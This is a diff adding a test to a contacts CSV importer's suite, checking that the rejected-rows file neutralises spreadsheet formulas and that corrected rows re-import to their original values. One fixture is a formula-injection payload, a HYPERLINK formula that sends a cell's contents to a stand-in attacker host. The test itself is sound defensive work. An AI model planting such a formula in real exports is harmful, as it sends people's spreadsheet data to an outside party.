@@ -219,6 +219,50 @@ describe("bad rows", () => {
     expect(text).toMatch(/^7,has 5 fields where the header has 4/m);
   });
 
+  it("--errors is formula-safe as an export is, and imports again to the same values", async () => {
+    const evil = '=HYPERLINK("https://evil.invalid/?d="&A1,"fix me")';
+    const file = writeScratch(
+      dir,
+      "formulas.csv",
+      [
+        "name,email,phone,custom_fields.note",
+        `"${evil.replaceAll('"', '""')}",not-an-email,+1 555 0100,@SUM(1+1)`, // line 2: refused (email)
+        "'=quoted,bad,-12,'@x", // line 3: refused; its cells read as =quoted, -12 and @x
+      ].join("\n"),
+    );
+    const errorsFile = join(dir, "rejected.csv");
+    expect((await importJson([file, "--errors", errorsFile])).code).toBe(1);
+    const rejected = readFileSync(errorsFile, "utf8");
+    // No cell begins with what a spreadsheet runs.
+    for (const line of rejected.trim().split("\n")) {
+      for (const cell of line.split(",")) expect(cell.replace(/^"/, ""), line).not.toMatch(/^[=+\-@\t\r]/);
+    }
+    expect(rejected).toContain(`'${evil.replaceAll('"', '""')}`);
+    expect(rejected).toContain("'+1 555 0100");
+    expect(rejected).toContain("'@SUM(1+1)");
+    expect(rejected).toMatch(/^3,.*,'=quoted,bad,'-12,'@x$/m);
+    // Fixed (the emails) and imported again, the values are the ones first sent.
+    const fixed = rejected
+      .replace(/^line,reason,/, "")
+      .replace(/^\d+,[^,]*(?:"[^"]*")?[^,]*,/gm, "")
+      .replace("not-an-email", "evil@example.com")
+      .replace(",bad,", ",quoted@example.com,");
+    const again = writeScratch(dir, "fixed.csv", fixed);
+    const second = await importJson([again]);
+    expect(second.code, second.stderr).toBe(0);
+    const contacts = await allContacts();
+    expect(byEmail(contacts, "evil@example.com")).toMatchObject({
+      name: evil,
+      phone: "+1 555 0100",
+      custom_fields: { note: "@SUM(1+1)" },
+    });
+    expect(byEmail(contacts, "quoted@example.com")).toMatchObject({
+      name: "=quoted",
+      phone: "-12",
+      custom_fields: { note: "@x" },
+    });
+  });
+
   it("without --errors, print each on stderr; API refusals count as failed rows too", async () => {
     await api.post("/open/v1/contacts", {
       key,
